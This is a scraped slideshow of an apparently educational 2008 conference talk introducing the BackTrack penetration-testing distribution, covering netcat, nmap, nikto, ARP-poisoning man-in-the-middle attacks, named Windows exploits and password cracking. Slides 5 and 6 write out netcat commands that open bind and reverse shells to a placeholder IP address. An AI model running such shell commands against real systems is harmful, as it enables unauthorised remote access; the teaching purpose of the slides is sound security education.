Successfully reported this slideshow.
We use your LinkedIn profile and activity data to personalize ads and to show you more relevant ads. You can change your ad preferences anytime.

Kunal - Introduction to BackTrack - ClubHack2008


Published on

Published in: Technology
  • Be the first to comment

  • Be the first to like this

Kunal - Introduction to BackTrack - ClubHack2008

  1. 1. Introduction to BackTrack Local boot to remote root in just one CD Thought for the day, “Don’t learn to hack, hack to learn”..!!! - Kunal Sehgal [email_address]
  2. 2. <ul><li>Introduction: </li></ul><ul><li>BackTrack is a suite of penetration testing/vulnerability assessment tools installed on a Linux Operating System, all wrapped-up on a bootable (live) CD </li></ul><ul><li>The most top rated Linux live distribution focused on penetration testing </li></ul><ul><li>Consists of more than 300 different up-to-date tools which are logically structured according to the work flow of security professionals </li></ul><ul><li>Rated #1 Security-Distro by & </li></ul>
  3. 3. <ul><li>Miscellaneous BT Services: </li></ul><ul><li>HTTP (Port: 80) </li></ul><ul><li>TFTP (Port: 69) </li></ul><ul><li>SSH (Port: 22) </li></ul><ul><li>VNC (Port: 5901) </li></ul>
  4. 4. <ul><li>Netcat: </li></ul><ul><li>A computer networking utility for reading from and writing to network connections on either TCP or UDP </li></ul><ul><li>Feature-rich network debugging and exploration tool, since it can create almost any kind of connection you would need, including port binding to accept incoming connections </li></ul><ul><li>Bind Shell </li></ul><ul><li>Reverse Shell </li></ul>
  5. 5. Attacker (Private IP) Victim (Public IP) NAT Internet Bind Shell: nc -lvp 4444 -e cmd.exe nc -v <IP> 4444 Internet Attacker Connects to Victim (Incoming Traffic)
  6. 6. Attacker (Public IP) Victim (Private IP) Internet Reverse Shell: nc -v <IP> 4444 -e cmd.exe nc -lvp 4444 Internet NAT Victim sends theshell (Outgoing Traffic)
  7. 7. <ul><li>Nmap: </li></ul><ul><li>A security scanner used to discover computers and services on a computer network, thus creating a "map" of the network </li></ul><ul><li>Capable of discovering passive services on a network despite the fact that such services aren't advertising themselves </li></ul><ul><li>May be able to determine various details about the remote computers. These include operating system, device type, uptime, software product used to run a service, exact version number of that product, etc. </li></ul>
  8. 8. <ul><li>Nikto: </li></ul><ul><li>A scanner which performs comprehensive tests against web servers for multiple items </li></ul><ul><li>Includes over 3500 potentially dangerous files/CGIs, versions on over 900 servers, and version specific problems on over 250 servers </li></ul><ul><li>Not every check is a security problem, though most are </li></ul><ul><li>There are some items that are "info only" type checks that look for items that may not have a security flaw, but the webmaster or security engineer may not know are present on the server </li></ul>
  9. 9. <ul><li>ARP Poisoning – Man In The Middle Attack: </li></ul><ul><li>MAC Address : Hardware address or physical address is a quasi-unique identifier assigned to most network adapters or network interface cards (NICs) by the manufacturer for identification </li></ul><ul><li>Address Resolution Protocol (ARP) : A method for finding a host's hardware address when only its Network Layer address is known </li></ul><ul><li>Ettercap : A suite for man in the middle attacks on LAN. It features sniffing of live connections, content filtering on the fly and many other interesting tricks </li></ul>10. 10. Attacker Sender Receiver Network Using A Hub Can easily sniff data
  11. 11. Attacker Sender Receiver Network Using A Switch Cannot sniff any data :(
  12. 12. Attacker Sender Receiver Man In The Middle Attack Hi everyone, I’m the switch
  13. 13. <ul><li>Exploits: </li></ul><ul><li>An exploit is a piece of software, a chunk of data, or sequence of commands that take advantage of a bug, glitch or vulnerability in order to cause unintended or unanticipated behavior to occur </li></ul><ul><li>Frequently includes such things as violently gaining control of a computer system or allowing privilege escalation or a denial of service attack </li></ul><ul><li>Zero Day Exploit: A threat that tries to exploit unknown, undisclosed or patchfree computer application vulnerabilities </li></ul><ul><li> & </li></ul>
  14. 14. <ul><li>Exploits (Conti…): </li></ul><ul><li>Attack / Exploit </li></ul>Vulnerability <ul><li>App </li></ul><ul><li>Protocol </li></ul><ul><li>O/S </li></ul><ul><li>Add a user </li></ul><ul><li>Get a remote shell </li></ul><ul><li>GUI access </li></ul><ul><li>Change routing tables </li></ul><ul><li>Etc.. Etc.. </li></ul>Payload
  15. 15. <ul><li>Exploit Frameworks: </li></ul><ul><li>A development platform for creating security tools and exploits </li></ul><ul><li>Used by network security professionals to perform penetration tests, system administrators to verify patch installations, product vendors to perform regression testing, and security researchers world-wide </li></ul><ul><li>A boon for script kiddies </li></ul>
  16. 16. <ul><li>Windows DCOM RPC Interface Buffer Overrun: </li></ul><ul><li>Exploits a vulnerability in Windows OS </li></ul><ul><li>The issue is due to insufficient bounds checking of client DCOM object activation requests. Exploitation of this issue could result in execution of maliciousinstructions with Local System privileges on an affected system </li></ul><ul><li> </li></ul><ul><li>Bind Shell </li></ul>
  17. 17. <ul><li>IE IsComponentInstalled Buffer Overflow Vulnerability: </li></ul><ul><li>Exploits a vulnerability in an application (MS Internet Explorer) </li></ul><ul><li>Microsoft Internet Explorer is prone to a remote buffer-overflow vulnerability in the 'IsComponentInstalled()' method. A successful exploit results in arbitrary code execution in the context of the user running the browser </li></ul><ul><li> </li></ul><ul><li>Reverse Shell </li></ul>
  18. 18. <ul><li>MS Windows Graphics Rendering Engine WMF: </li></ul><ul><li>Exploits a vulnerability in MS Windows WMF graphics rendering engine </li></ul><ul><li>The problem presents itself when a user views a malicious WMF formatted file, triggering the vulnerability when the engine attempts to parse the file </li></ul><ul><li> </li></ul>
  19. 19. <ul><li>Passwords Hacking: </li></ul><ul><li>Why hack local passwords? </li></ul><ul><ul><li>Install softwares – key loggers, trojans, etc </li></ul></ul><ul><ul><li>Gain access to another PC, Server, Router, etc. </li></ul></ul><ul><ul><li>People re-use passwords all the time </li></ul></ul><ul><li>Types of attack: </li></ul><ul><ul><li>Brute force Attack </li></ul></ul><ul><ul><li>Dictionary Attack </li></ul></ul><ul><ul><li>Rainbow Tables </li></ul></ul>
  20. 20. <ul><li>Password Attack Vectors:</li></ul><ul><li>Online Attack : Attacking network services that require a user to log on, by guessing the correct password </li></ul><ul><li>Offline Attack : Attacking hash files that store encrypted passwords </li></ul><ul><li>Physical Access Attack : Attacking machines and other network devices, after gaining physical access </li></ul>
  21. 21. <ul><li>How To Hack Windows Passwords? </li></ul><ul><li>Available Tools: John The Ripper, Cain & Abel, Rainbow Tables </li></ul><ul><li>Gain access to the victim’s PC </li></ul>
  22. 22. <ul><li>Google Hacking: </li></ul><ul><li>Google hacking is a term that refers to the act of creating complex search engine queries in order to filter through large amounts of search results </li></ul><ul><li>In its malicious format it can be used to detect websites that are vulnerable to numerous exploits and vulnerabilities as well as locate private, sensitive information about others </li></ul><ul><li> </li></ul>
  23. 23. <ul><li>References: </li></ul><ul><li> </li></ul><ul><li> </li></ul><ul><li> </li></ul><ul><li> </li></ul><ul><li> </li></ul><ul><li> </li></ul><ul><li> </li></ul><ul><li> </li></ul><ul><li> </li></ul><ul><li> </li></ul><ul><li> </li></ul>
  24. 24.<ul><li>Questions?? </li></ul><ul><li>Feelfree to contact me: </li></ul><ul><li>KunalSehgal </li></ul>
  25. 25.<ul><li>Workshop Exercise: </li></ul>